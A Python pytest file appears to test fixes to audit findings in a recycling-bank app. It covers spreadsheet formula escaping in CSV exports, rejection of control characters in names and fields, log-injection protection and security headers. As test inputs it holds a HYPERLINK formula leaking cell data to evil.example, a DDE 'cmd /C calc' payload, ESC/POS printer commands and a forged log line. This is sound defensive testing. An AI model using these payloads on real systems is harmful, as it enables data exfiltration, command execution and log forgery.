"""Issue 14 findings 7 and 9: what members type cannot become a formula, a printer command or a forged log line."""

from __future__ import annotations

import csv
import io
import logging

import pytest
from sqlalchemy import select

from recycle.csv_safe import safe_cell
from recycle.models import AuditEntry, Household
from tests import factories
from tests.api.test_auth import register_body
from tests.enterprise.settle_helpers import credit, yesterday
from tests.enterprise.test_settlements import approve, run_and_payouts

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "cell, shown",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-40.00", "-40.00"),
        ("12.5", "12.5"),
        ("นางแก้ว", "นางแก้ว"),
        (7, 7),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_text(cell, shown):
    assert safe_cell(cell) == shown


def _csv(resp) -> list[list[str]]:
    assert resp.status_code == 200
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))


def test_finding_7_a_self_registered_formula_name_reaches_the_bank_file_as_text(client, db, auth, tenant, catalog, staff, admin):
    village = factories.VillageFactory(tenant_id=tenant.id)
    ids = []
    for phone, name, pp in (("0812345678", FORMULA, "0891234567"), ("0812345679", DDE, "0891234568")):
        r = client.post("/api/v1/auth/register", json=register_body(tenant, village, phone=phone, name=name, promptpay_id=pp))
        assert r.status_code == 201, r.json
        ids.append(db.scalar(select(Household.id).where(Household.phone == phone)))
    for hid in ids:
        credit(client, auth(staff), hid, 2000)
    run, _ = run_and_payouts(client, auth(staff), yesterday())
    approve(db, tenant, run["id"])
    resp = client.get(f"/api/v1/settlements/{run['id']}/bank-file", headers=auth(staff))
    rows = _csv(resp)
    names = {r[1] for r in rows[1:]}
    assert names == {"'" + FORMULA, "'" + DDE}  # shown as text by Excel and LibreOffice
    assert not any(c.startswith(("=", "+", "@")) for r in rows for c in r)
    assert {r[3] for r in rows[1:]} == {"78.40"}  # amounts stay plain numbers
    assert resp.headers["Cache-Control"] == "no-store"
    entry = db.scalar(select(AuditEntry).where(AuditEntry.action == "settlement.bank_file_download"))
    assert entry.actor_user_id == staff.id and sorted(entry.detail["household_ids"]) == sorted(ids)


def test_passbook_csv_goes_through_the_same_guard(client, auth, tenant, catalog, staff, member, monkeypatch):
    credit(client, auth(staff), member.household_id, 1000)
    monkeypatch.setitem(__import__("api.namespaces.wallet", fromlist=["LABELS"]).LABELS, "weigh_in", "=cmd")
    resp = client.get(f"/api/v1/households/{member.household_id}/passbook?format=csv", headers=auth(staff))
    rows = _csv(resp)
    assert rows[1][1].startswith("'=cmd") and rows[1][2] == "40.00"
    assert resp.headers["Cache-Control"] == "no-store"


def test_finding_9_control_characters_are_refused_in_names_addresses_and_notes(client, auth, tenant, staff):
    village = factories.VillageFactory(tenant_id=tenant.id)
    esc_pos = "นางแก้ว\x1b@\x1dV\x00"[:-1]  # ESC @ (printer reset), GS V (paper cut)
    r = client.post("/api/v1/auth/register", json=register_body(tenant, village, name=esc_pos))
    assert r.status_code == 422 and "control characters" in r.json["errors"]["name"][0]
    for field, value in (("name", "ยาย\u202eจันทร์"), ("address", "3 หมู่ 3\r\nPAID"), ("name", "ยาย\x85จันทร์")):
        body = {"name": "ยายจันทร์", "village_id": village.id, "consent": {"method": "paper_signed"}, field: value}
        r = client.post("/api/v1/households", headers=auth(staff), json=body)
        assert r.status_code == 422 and list(r.json["errors"]) == [field], (field, r.json)
    hid = client.post(
        "/api/v1/households",
        headers=auth(staff),
        json={"name": "ยายจันทร์ แสงคำ", "village_id": village.id, "consent": {"method": "paper_signed"}},
    ).json["id"]
    r = client.post(f"/api/v1/households/{hid}/erasure", headers=auth(staff), json={"confirm": True, "reason": "x\x1bE"})
    assert r.status_code == 422 and "reason" in r.json["errors"]


def test_finding_9_a_url_cannot_forge_a_log_line(client, app):
    handler = logging.getLogger("thangngoen").handlers[0]
    out = io.StringIO()
    old = handler.setStream(out)
    logger = logging.getLogger("thangngoen.http")
    level = logger.level
    logger.setLevel(logging.INFO)
    try:
        client.get("/api/v1/nothing%0A2026-01-01 00:00:00,000 INFO [-] thangngoen.auth: admin logged in%1b[2J")
    finally:
        handler.setStream(old)
        logger.setLevel(level)
    lines = out.getvalue().splitlines()
    assert len(lines) == 1, lines
    assert "\\x0a2026-01-01" in lines[0] and "\\x1b[2J" in lines[0] and "\x1b" not in lines[0]


def test_security_headers_on_every_response(client, auth, member, tenant):
    for path, headers in (("/api/v1/me", auth(member)), ("/api/v1/nowhere", {}), (f"/api/v1/public/{tenant.slug}/prices", {})):
        r = client.get(path, headers=headers)
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
        assert r.headers["Referrer-Policy"] == "no-referrer"
    assert client.get("/api/v1/me", headers=auth(member)).headers["Cache-Control"] == "no-store"
    assert client.get(f"/api/v1/households/{member.household_id}/qr", headers=auth(member)).headers["Cache-Control"] == "no-store"
    login = client.post("/api/v1/auth/login", json={"tenant": tenant.slug, "phone": member.phone, "password": factories.PASSWORD})
    assert login.status_code == 200 and login.headers["Cache-Control"] == "no-store"
    public = client.get(f"/api/v1/public/{tenant.slug}/prices")
    assert public.headers["Cache-Control"] == "public, max-age=60"  # the price board may be cached


def test_a_name_stored_before_the_check_cannot_drive_the_receipt_printer(client, db, auth, tenant, catalog, staff):
    household = factories.HouseholdFactory(tenant=tenant, name="ยาย\x1b@\x1dV1จันทร์")  # written straight to the table
    ticket_id = credit(client, auth(staff), household.id, 1000)["id"]
    text = client.get(f"/api/v1/collections/{ticket_id}/receipt", headers=auth(staff)).get_data(as_text=True)
    assert "ยาย@V1จันทร์" in text and "\x1b" not in text and "\x1d" not in text and text.count("\n") > 5
